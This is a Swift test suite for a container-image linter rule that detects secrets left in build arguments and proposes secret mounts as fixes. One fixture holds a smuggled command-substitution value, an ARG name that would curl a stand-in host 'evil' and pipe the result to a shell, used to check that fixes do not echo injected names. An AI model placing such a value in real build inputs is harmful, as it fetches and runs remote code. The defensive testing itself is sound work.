internal import Checks
internal import TestSupport
internal import Testing

@Suite struct `IMG304 secret-build-arg` {
  private static func image(_ history: [ImageBuilder.HistoryEntry]?) -> ImageBuilder {
    ImageBuilder(layers: [[.file("a", "")], [.file("b", "")]], history: history)
  }

  @Test func `names each argument once, and the first layer that was given it`() async throws {
    let judgement = try await judge(
      "secret-build-arg",
      Self.image([
        "/bin/sh -c #(nop) ADD file:1 in /", .empty("ARG NPM_TOKEN=hunter2"), .empty("ARG MODE=x"),
        "RUN |2 MODE=x NPM_TOKEN=hunter2 /bin/sh -c npm ci # buildkit",
      ])
    )
    #expect(
      judgement.findings.map { "\($0.layer ?? -1) \($0.message)" } == [
        "1 the history has the value that was passed for ARG NPM_TOKEN (7 bytes, SHA-256 f52fbd32…)"
      ]
    )
    #expect(
      judgement.fixes == [
        """
        RUN --mount=type=secret,id=NPM_TOKEN,env=NPM_TOKEN …
        # docker build --secret id=NPM_TOKEN … rather than ARG, and revoke this one
        """
      ]
    )
  }

  @Test func `puts no name into a fix that would act in it`() async throws {
    let judgement = try await judge(
      "secret-build-arg",
      Self.image([.empty("ARG $(curl${IFS}evil|sh)_TOKEN=hunter2"), "RUN x", "RUN y"])
    )
    #expect(judgement.findings.count == 1)
    #expect(judgement.fixes == ["RUN --mount=type=secret,id=NAME,env=NAME …"])
  }

  @Test func `finds keys and proxies with passwords`() async throws {
    let key = SecretSample.privateKey().value
    let judgement = try await judge(
      "secret-build-arg",
      Self.image([
        .init("|2 HTTP_PROXY=http://me:hunter2@proxy:3128 SSH_KEY=\(key) /bin/sh -c x"), "RUN x",
      ])
    )
    #expect(
      judgement.findings.map { $0.message.contains("ARG HTTP_PROXY, a password in a URL (") } == [
        true, false,
      ]
    )
    #expect(judgement.findings.last?.message.contains("ARG SSH_KEY, a private key (") == true)
  }

  @Test func `passes over arguments that hold none`() async throws {
    let judgement = try await judge(
      "secret-build-arg",
      Self.image([
        .empty("ARG NPM_TOKEN"), "RUN |1 TOKEN_FILE=/x /bin/sh -c x", "RUN |1 TOKEN= /bin/sh -c x",
      ])
    )
    #expect(judgement.outcome == .clean, "\(judgement.findings.map(\.message))")
  }

  @Test func `cannot tell without a history`() async throws {
    #expect(
      try await judge("secret-build-arg", Self.image(nil)).outcome
        == .notCheckable("the image has no history")
    )
  }
}
